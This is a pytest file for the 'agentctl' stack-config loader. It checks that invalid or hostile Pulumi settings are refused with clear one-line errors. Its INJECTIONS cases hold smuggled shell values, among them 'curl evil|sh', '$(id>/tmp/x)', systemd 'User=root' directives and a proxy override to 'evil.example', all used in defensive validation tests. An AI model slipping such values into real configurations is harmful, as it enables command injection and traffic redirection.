"""The stack file loader: every bad input is one line naming file, key path, problem
and expectation; the example stacks load."""
from __future__ import annotations

import copy
from pathlib import Path

import pytest
import yaml

from agentctl.errors import ConfigError
from agentctl.stackfile import from_config, load

ROOT = Path(__file__).resolve().parent.parent
BASE = yaml.safe_load((ROOT / "Pulumi.lab.yaml").read_text())["config"]
AWS = yaml.safe_load((ROOT / "Pulumi.example-aws.yaml").read_text())["config"]


@pytest.mark.parametrize("stack", ["lab", "example-aws", "example-hcloud"])
def test_example_stacks_load(stack):
    d = load(ROOT, stack)
    assert d.agents and d.proxy.name not in {a.name for a in d.agents}


def _agent(c):
    return c["agentctl:agents"][0]


CASES = [
    ("rule without host", lambda c: _agent(c)["egress"]["rules"][0].pop("host"),
     "agentctl:agents[0].egress.rules[0]", "no target; expected host: (e.g. api.github.com) or cidr:"),
    ("duplicate host", lambda c: c["agentctl:agents"].append(copy.deepcopy(_agent(c))),
     "agentctl:agents[1].name", "used twice"),
    ("agent named like the proxy", lambda c: _agent(c).update(name="proxy"), "agentctl:agents[0].name", "used twice"),
    ("unknown top-level key", lambda c: c.update({"agentctl:colour": "red"}), "agentctl:colour", "unknown key"),
    ("unknown nested key", lambda c: _agent(c).update(colour="red"), "agentctl:agents[0].colour", "unknown key"),
    ("wrong type", lambda c: c["agentctl:watchdog"].update(intervalMinutes="often"),
     "agentctl:watchdog.intervalMinutes", "'often' is not a whole number; expected a whole number"),
    ("bad glob", lambda c: _agent(c)["egress"]["rules"][0].update(host="*github.com"),
     "agentctl:agents[0].egress.rules[0].host", "'*github.com' is not a host pattern; expected an exact name, '*' or"),
    ("unknown method", lambda c: _agent(c)["egress"]["rules"][0].update(methods=["STEAL"]),
     "agentctl:agents[0].egress.rules[0].methods", "'STEAL' is not an HTTP method a rule may name; expected some of GET"),
    ("relative path", lambda c: _agent(c)["egress"]["rules"][0].update(paths=["repos/*"]),
     "agentctl:agents[0].egress.rules[0].paths", "'repos/*' is not a path glob; expected one starting with /, e.g. /v1/*"),
    ("unknown source type", lambda c: _agent(c)["egress"]["secrets"][0].update(source={"type": "vault", "path": "/x"}),
     "agentctl:agents[0].egress.secrets[0].source", "unknown source type 'vault'; expected one of env, file, aws_ssm"),
    ("missing field", lambda c: c.pop("agentctl:adminSshKeys"), "agentctl:adminSshKeys", "required"),
    ("bad cloud", lambda c: c.update({"agentctl:cloud": "gcp"}), "agentctl:cloud", "'gcp' is not allowed"),
    ("bad ssh key", lambda c: c.update({"agentctl:adminSshKeys": ["hunter2"]}), "agentctl:adminSshKeys", "public key"),
    ("small network", lambda c: c.update({"agentctl:network": {"cidr": "10.0.0.0/26"}}), "agentctl:network.cidr",
     "too small"),
    ("bad reboot time", lambda c: c.update({"agentctl:maintenance": {"rebootTime": "25:00"}}),
     "agentctl:maintenance.rebootTime", "'25:00' is not in the expected form; expected a time of day, HH:MM, e.g. 03:30"),
    ("two runtimes", lambda c: _agent(c)["runtime"].update(hermes=_HERMES_OK), "agentctl:agents[0].runtime",
     "exactly one"),
    ("unpinned hermes", lambda c: _agent(c).update(runtime={"hermes": {k: v for k, v in _HERMES_OK.items()
                                                                        if k != "version"}}),
     "agentctl:agents[0].runtime.hermes.version", "required"),
    ("hermes git tag", lambda c: _agent(c).update(runtime={"hermes": {**_HERMES_OK, "version": "v2026.11.0"}}),
     "agentctl:agents[0].runtime.hermes.version", "expected '2026.11.0'"),
    ("hermes model base url it would ignore",
     lambda c: _agent(c).update(runtime={"hermes": {**_HERMES_OK, "model": {"name": "m",
                                                                             "baseUrl": "https://llm.example/v1"}}}),
     "agentctl:agents[0].runtime.hermes.model.baseUrl", "silently replace"),
    ("hermes provider not supported",
     lambda c: _agent(c).update(runtime={"hermes": {**_HERMES_OK, "model": {"name": "m", "provider": "openai"}}}),
     "agentctl:agents[0].runtime.hermes.model.provider", "'openai' is not allowed; expected one of anthropic"),
    ("secret path prefix not a path",
     lambda c: _agent(c)["egress"]["secrets"][0].update(inject={"path_prefix": "bot"}),
     "agentctl:agents[0].egress.secrets[0].inject.path_prefix", "'bot' is not in the expected form; expected a plain path starting with /"),
    ("secret in the path and a header",
     lambda c: _agent(c)["egress"]["secrets"][0].update(inject={"path_prefix": "/bot", "header": "x"}),
     "agentctl:agents[0].egress.secrets[0].inject", "expected exactly one of header (e.g. Authorization), query_param (e.g. key) or path_prefix (e.g. /bot)"),
    ("hermes nobody may talk to it",
     lambda c: _agent(c).update(runtime={"hermes": {**_HERMES_OK, "telegram": {"allowedUsers": []}}}),
     "agentctl:agents[0].runtime.hermes.telegram.allowedUsers", "is empty; expected at least one entry"),
    ("two agents on one address", lambda c: c["agentctl:agents"].append(dict(copy.deepcopy(_agent(c)), name="other",
                                                                              hostNumber=11)),
     "agentctl:agents[1]", "would take address .11"),
    ("host number outside the subnet", lambda c: _agent(c).update(hostNumber=300), "agentctl:agents[0].hostNumber",
     "300 is out of range; expected a number <= 254"),
    ("nested unknown key says what is allowed", lambda c: _agent(c).update(colour="red"), "agentctl:agents[0].colour",
     "expected one of: backups, bootstrap, egress, hostNumber, name, runtime, size"),
    ("plain tailscale key names the reference form", lambda c: c.update({"agentctl:tailscale": {"authKey": "tskey-x"}}),
     "agentctl:tailscale.authKey", "expected a reference to a Pulumi secret, {config: NAME}"),
]

_HERMES_OK = {"version": "0.19.0", "model": {"name": "claude-sonnet-4-5"}, "telegram": {"allowedUsers": [1]}}
_ENV = lambda env: lambda c: _agent(c)["runtime"]["command"].update(environment=env)  # noqa: E731
_HERMES = lambda **kw: lambda c: _agent(c).update(runtime={"hermes": kw})  # noqa: E731

# Strings that reach root scripts and unit files: each one refused at its key path.
INJECTIONS = [
    ("heartbeat command substitution", lambda c: c.update({"agentctl:heartbeatUrl": "https://hb.example/$(id>/tmp/x)"}),
     "agentctl:heartbeatUrl", "percent-encode"),
    ("heartbeat quote", lambda c: c.update({"agentctl:heartbeatUrl": "https://hb.example/x'; id; '"}),
     "agentctl:heartbeatUrl", "percent-encode"),
    ("heartbeat newline", lambda c: c.update({"agentctl:heartbeatUrl": "https://hb.example/x\nid"}),
     "agentctl:heartbeatUrl", "control character"),
    ("heartbeat not https", lambda c: c.update({"agentctl:heartbeatUrl": "http://hb.example/x"}),
     "agentctl:heartbeatUrl", "must use https"),
    ("heartbeat credentials", lambda c: c.update({"agentctl:heartbeatUrl": "https://u:p@hb.example/x"}),
     "agentctl:heartbeatUrl", "credentials"),
    ("heartbeat bad host", lambda c: c.update({"agentctl:heartbeatUrl": "https://hb.example;id/x"}),
     "agentctl:heartbeatUrl", "host name"),
    ("env value with unit directives", _ENV({"MODE": "x\nUser=root\nIPAddressAllow=any"}),
     "agentctl:agents[0].runtime.command.environment.MODE", "control character"),
    ("env name with =", _ENV({"A=B": "x"}), "agentctl:agents[0].runtime.command.environment.A=B",
     "[A-Z_][A-Z0-9_]*"),
    ("env name lowercase", _ENV({"mode": "x"}), "agentctl:agents[0].runtime.command.environment.mode",
     "[A-Z_][A-Z0-9_]*"),
    ("env overrides the proxy", _ENV({"HTTPS_PROXY": "http://evil.example:3128"}),
     "agentctl:agents[0].runtime.command.environment.HTTPS_PROXY", "set by agentctl"),
    ("exec with newline", lambda c: _agent(c)["runtime"]["command"].update(exec="/bin/agent\nUser=root"),
     "agentctl:agents[0].runtime.command.exec", "control character"),
    ("hermes version shell", _HERMES(**{**_HERMES_OK, "version": "1.0; curl evil|sh"}),
     "agentctl:agents[0].runtime.hermes.version", "not a version"),
    ("hermes version option", _HERMES(**{**_HERMES_OK, "version": "--index-url=https://evil"}),
     "agentctl:agents[0].runtime.hermes.version", "not a version"),
    ("hermes index quote", _HERMES(**{**_HERMES_OK, "index": "https://pypi.example/simple' ; id ; '"}),
     "agentctl:agents[0].runtime.hermes.index", "percent-encode"),
    ("hermes index option", _HERMES(**{**_HERMES_OK, "index": "--trusted-host=evil"}),
     "agentctl:agents[0].runtime.hermes.index", "https"),
    ("pip spec quote", lambda c: c["agentctl:proxy"].update(install={"pip": "agentctl-proxy'; id; '"}),
     "agentctl:proxy.install.pip", "quote"),
]


@pytest.mark.parametrize("mutate,key_path,words", [c[1:] for c in INJECTIONS], ids=[c[0] for c in INJECTIONS])
def test_injection_attempts_are_refused(mutate, key_path, words):
    test_bad_input_names_the_key(mutate, key_path, words)


@pytest.mark.parametrize("value", ["https://hc-ping.com/0000-1111", "https://hb.example:8443/ping/abc?rid=1&x=a%2Fb;c",
                                   "https://HB.Example/p@th/!x,y+z~"])
def test_legitimate_heartbeat_urls_pass(value):
    assert from_config({**BASE, "agentctl:heartbeatUrl": value}, "t").heartbeat_url == value


def test_legitimate_env_values_pass():
    value = 'a "quoted" value, 100% \\ back\\slash $HOME `x` \'y\''
    d = from_config(_with(_ENV({"MODE": value, "_X1": ""})), "t")
    assert d.agents[0].runtime.command.environment == {"MODE": value, "_X1": ""}


def _with(mutate):
    config = copy.deepcopy(BASE)
    mutate(config)
    return config


@pytest.mark.parametrize("name", ["OPENAI_API_KEY", "GITHUB_TOKEN", "DB_PASSWORD", "AWS_SECRET_ACCESS_KEY",
                                  "SLACK_BOT_TOKEN", "GH_PAT"])
def test_credential_looking_env_is_refused_and_its_value_not_echoed(name):
    with pytest.raises(ConfigError) as err:
        from_config(_with(_ENV({name: "sk-live-1234567890"})), "Pulumi.t.yaml")
    line = str(err.value)
    assert line.startswith(f"Pulumi.t.yaml: agentctl:agents[0].runtime.command.environment.{name}: ")
    assert "looks like a credential" in line and "egress.secrets" in line and "sk-live" not in line


@pytest.mark.parametrize("name", ["KEYBOARD_LAYOUT", "MONKEY_MODE", "LAB_AGENT_INTERVAL", "PASSTHROUGH_MODE"])
def test_env_names_that_only_contain_credential_words_pass(name):
    assert name in from_config(_with(_ENV({name: "1"})), "t").agents[0].runtime.command.environment


@pytest.mark.parametrize("key", ["heartbeatUrl", "region", "watchdog"])
def test_settings_given_as_pulumi_secrets_are_refused_clearly(key):
    config = {**BASE, f"agentctl:{key}": {"secure": "v1:placeholder"}}
    with pytest.raises(ConfigError) as err:
        from_config(config, "Pulumi.t.yaml")
    line = str(err.value)
    assert line.startswith(f"Pulumi.t.yaml: agentctl:{key}: is a Pulumi secret (secure:)"), line
    assert "required but missing" not in line and f"pulumi config set {key} VALUE" in line


@pytest.mark.parametrize("text,key_path,line", [
    ("config:\n  agentctl:cloud: lab\n  agentctl:cloud: aws\n", "agentctl:cloud", 3),
    ("config:\n  agentctl:proxy:\n    name: p\n    size: s\n    name: q\n", "agentctl:proxy.name", 5),
    ("config:\n  agentctl:agents:\n    - name: a\n      egress: {rules: [], rules: []}\n",
     "agentctl:agents[0].egress.rules", 4),
    ("config: {}\nconfig: {}\n", "config", 2),
])
def test_duplicate_yaml_keys_are_refused(tmp_path, text, key_path, line):
    (tmp_path / "Pulumi.dup.yaml").write_text(text)
    with pytest.raises(ConfigError) as err:
        load(tmp_path, "dup")
    assert str(err.value) == (f"{tmp_path}/Pulumi.dup.yaml: {key_path}: is given twice (again on line {line}); "
                              "expected each key once (Pulumi refuses duplicates too)")


def _backups(**kw):
    return lambda c: _agent(c).update(backups={"enabled": True, **kw})


@pytest.mark.parametrize("mutate,words", [
    (lambda c: (_agent(c).pop("backups", None), c["agentctl:watchdog"].update(backupMaxAgeHours=30)),
     "no agent has backups enabled"),
    (lambda c: (_backups(intervalHours=24)(c), c["agentctl:watchdog"].update(backupMaxAgeHours=24)),
     "would fail between two good backups"),
])
def test_backup_age_needs_backups_that_can_meet_it(mutate, words):
    with pytest.raises(ConfigError) as err:
        from_config(_with(mutate), "Pulumi.t.yaml")
    assert str(err.value).startswith("Pulumi.t.yaml: agentctl:watchdog.backupMaxAgeHours: ") and words in str(err.value)


def test_backup_age_with_backups_loads():
    d = from_config(_with(lambda c: (_backups(intervalHours=6)(c), c["agentctl:watchdog"].update(backupMaxAgeHours=12))),
                    "t")
    assert d.agents[0].backups.enabled and d.watchdog.backup_max_age_hours == 12


@pytest.mark.parametrize("mutate,key_path,words", [c[1:] for c in CASES], ids=[c[0] for c in CASES])
def test_bad_input_names_the_key(mutate, key_path, words):
    config = copy.deepcopy(BASE)
    mutate(config)
    with pytest.raises(ConfigError) as err:
        from_config(config, "Pulumi.t.yaml")
    line = str(err.value)
    assert "\n" not in line
    assert line.startswith(f"Pulumi.t.yaml: {key_path}: "), line
    assert words in line, line
    assert err.value.exit_code == 2


def test_secret_in_plain_text_is_refused():
    config = copy.deepcopy(AWS)
    config["agentctl:githubPat"] = "ghp_plaintext_value"
    with pytest.raises(ConfigError) as err:
        from_config(config, "Pulumi.t.yaml")
    assert "agentctl:githubPat: is plain text" in str(err.value)
    assert "ghp_plaintext_value" not in str(err.value)


def test_secret_reference_must_exist():
    config = copy.deepcopy(AWS)
    del config["agentctl:githubPat"]
    with pytest.raises(ConfigError, match=r"agentctl:agents\[0\]\.egress\.secrets\[1\]\.from\.config: names 'githubPat'"):
        from_config(config, "Pulumi.t.yaml")


def test_secure_values_are_tracked_not_read():
    d = from_config(AWS, "Pulumi.t.yaml")
    assert d.secure_keys == {"githubPat", "anthropicKey", "telegramBotToken"}
    assert "placeholder" not in d.model_dump_json()


def test_yaml_error_and_missing_file(tmp_path):
    (tmp_path / "Pulumi.broken.yaml").write_text("config:\n  agentctl:cloud: [lab\n")
    with pytest.raises(ConfigError, match=r"Pulumi.broken.yaml: is not valid YAML \(line \d+"):
        load(tmp_path, "broken")
    with pytest.raises(ConfigError, match="no such stack file"):
        load(tmp_path, "absent")
    (tmp_path / "Pulumi.empty.yaml").write_text("encryptionsalt: x\n")
    with pytest.raises(ConfigError, match=r"config: is missing"):
        load(tmp_path, "empty")
